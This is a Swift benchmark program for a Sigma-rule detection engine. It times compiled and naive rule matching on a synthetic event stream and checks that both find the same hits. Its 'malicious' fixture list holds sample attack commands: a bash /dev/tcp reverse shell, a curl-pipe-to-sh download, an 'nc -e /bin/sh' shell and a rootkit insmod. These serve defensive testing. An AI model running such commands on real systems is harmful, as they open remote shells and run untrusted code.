// Evaluates a deterministic mixed stream of events (process execs, file changes, flows, with a
// few malicious ones among them) against Sigma rules, on one thread:
// - the compiled policy (per-field Aho-Corasick, rules indexed by category) with all rules,
//   and with ten times as many rules (copies with new ids);
// - the naive evaluator (DirectMatcher: every applicable rule of the event's category in turn),
//   with the same two rule sets.
// Both must find the same number of hits. Prints one JSON line.
//
// usage: policy-bench RULES_PATH... [--events N] [--naive-events N]
import Foundation
import VigilCore
import VigilPolicy

var paths: [String] = []
var count = 1_000_000
var naiveCount = 100_000
var args = CommandLine.arguments.dropFirst()
while let a = args.popFirst() {
    switch a {
    case "--events": count = Int(args.popFirst() ?? "") ?? count
    case "--naive-events": naiveCount = Int(args.popFirst() ?? "") ?? naiveCount
    default: paths.append(a)
    }
}

struct Random {
    var state: UInt64
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
    mutating func below(_ n: Int) -> Int { Int(next() % UInt64(n)) }
}

let benign: [(String, String)] = [
    ("/usr/bin/bash", "bash -c ./deploy.sh --env prod"),
    ("/usr/bin/python3.11", "python3 /opt/app/worker.py --queue default"),
    ("/usr/bin/git", "git pull --ff-only origin main"), ("/usr/bin/tar", "tar czf /var/backups/db.tar.gz /var/lib/db"),
    ("/usr/bin/ls", "ls -la /srv/www"), ("/usr/bin/grep", "grep -r TODO /home/app/src"),
    ("/usr/sbin/cron", "/usr/sbin/cron -f"),
    ("/usr/bin/systemctl", "systemctl status nginx"), ("/usr/bin/ps", "ps aux"),
    ("/usr/bin/cat", "cat /var/log/nginx/access.log"),
]
let malicious: [(String, String)] = [
    ("/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"), ("/usr/bin/curl", "curl -s http://10.0.0.9/x.sh | sh"),
    ("/usr/bin/base64", "base64 -d /tmp/p.b64"), ("/usr/bin/nc", "nc -e /bin/sh 10.0.0.9 4444"),
    ("/usr/bin/chmod", "chmod +s /tmp/rootme"), ("/usr/sbin/insmod", "insmod /tmp/rk.ko"),
]
let files = [
    "/etc/passwd", "/etc/nginx/nginx.conf", "/var/log/syslog", "/home/app/data/report.csv", "/tmp/session-42",
    "/root/.ssh/authorized_keys", "/etc/cron.d/backup", "/srv/www/index.html", "/etc/sudoers.d/app",
    "/var/lib/postgresql/15/main/base/1",
]

func makeEvents(_ n: Int) -> [Event] {
    var r = Random(state: 7)
    return (0..<n).map { i in
        let kind = r.below(10)
        let payload: Event.Payload
        if kind < 5 {
            let (image, cmd) = r.below(1000) == 0 ? malicious[r.below(malicious.count)] : benign[r.below(benign.count)]
            payload = .process(
                ProcessEvent(
                    action: .exec,
                    processId: UInt32(1000 + i % 60000),
                    parentProcessId: 1,
                    image: image,
                    commandLine: cmd,
                    argv: cmd.split(separator: " ").map(String.init),
                    currentDirectory: "/home/app",
                    user: ["root", "app", "www-data"][r.below(3)],
                    uid: 0,
                    parentImage: "/usr/bin/bash",
                    parentCommandLine: "bash"
                )
            )
        } else if kind < 8 {
            payload = .file(
                FileEvent(
                    action: [.create, .modify, .attrib, .delete, .rename][r.below(5)],
                    targetFilename: files[r.below(files.count)] + (r.below(3) == 0 ? ".\(r.below(100))" : ""),
                    metadata: FileMetadata(mode: 0o100644, uid: 0, gid: 0, size: 10, inode: 1),
                    image: "/usr/bin/vim",
                    processId: 4242
                )
            )
        } else {
            payload = .flow(
                FlowEvent(
                    ts: 0,
                    duration: 1,
                    proto: "tcp",
                    origH: "10.0.0.\(r.below(250))",
                    origP: UInt16(40000 + r.below(20000)),
                    respH: "10.0.1.\(r.below(250))",
                    respP: [443, 80, 22, 5432, 4444][r.below(5)],
                    state: "SF"
                )
            )
        }
        return Event(
            seq: UInt64(i + 1),
            time: Timestamp(nanosecondsSinceEpoch: 1_764_334_800_000_000_000 + Int64(i) * 1000),
            payload: payload
        )
    }
}

func threadCPU() -> Double {
    var ts = timespec()
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts)
    return Double(ts.tv_sec) + Double(ts.tv_nsec) / 1e9
}

let (loaded, report) = PolicyLoader.load(paths: paths)
guard report.errors.isEmpty else {
    for e in report.errors { FileHandle.standardError.write(Data("\(e)\n".utf8)) }
    exit(1)
}
let rules = loaded
let tenfold: [SigmaRule] = (0..<10).flatMap { k in
    rules.map { rule -> SigmaRule in
        var copy = rule
        copy.id = k == 0 ? rule.id : "\(rule.id)-copy\(k)"
        return copy
    }
}
let events = makeEvents(count)

func compiledRun(_ rules: [SigmaRule], _ events: ArraySlice<Event>) -> (rate: Double, hits: Int, applicable: Int) {
    let policy = CompiledPolicy(rules: rules)
    var scratch = policy.makeScratch()
    var hits = 0
    let start = threadCPU()
    for e in events { hits += policy.matches(e, scratch: &scratch).count }
    return (Double(events.count) / (threadCPU() - start), hits, policy.rules.count)
}

func naiveRun(_ rules: [SigmaRule], _ events: ArraySlice<Event>) -> (rate: Double, hits: Int) {
    let matchers = rules.compactMap(DirectMatcher.init(rule:))
    var hits = 0
    let start = threadCPU()
    for e in events {
        for m in matchers where m.matchesWithoutException(e) { hits += 1 }
    }
    return (Double(events.count) / (threadCPU() - start), hits)
}

let c1 = compiledRun(rules, events[...])
let c10 = compiledRun(tenfold, events[...])
let sample = events[..<min(naiveCount, events.count)]
let n1 = naiveRun(rules, sample)
let n10 = naiveRun(tenfold, sample)
let c1Sample = compiledRun(rules, sample)
let c10Sample = compiledRun(tenfold, sample)
guard c1Sample.hits == n1.hits, c10Sample.hits == n10.hits else {
    FileHandle.standardError.write(
        Data("hit counts differ: compiled \(c1Sample.hits)/\(c10Sample.hits), naive \(n1.hits)/\(n10.hits)\n".utf8)
    )
    exit(1)
}
print(
    "{\"events\":\(events.count),\"naive_events\":\(sample.count),\"rules\":\(c1.applicable),\"rules_10x\":\(c10.applicable),"
        + "\"compiled_eps\":\(c1.rate),\"compiled_10x_eps\":\(c10.rate),\"naive_eps\":\(n1.rate),\"naive_10x_eps\":\(n10.rate),"
        + "\"hits\":\(c1.hits),\"hits_10x\":\(c10.hits),\"sample_hits\":\(n1.hits)}"
)
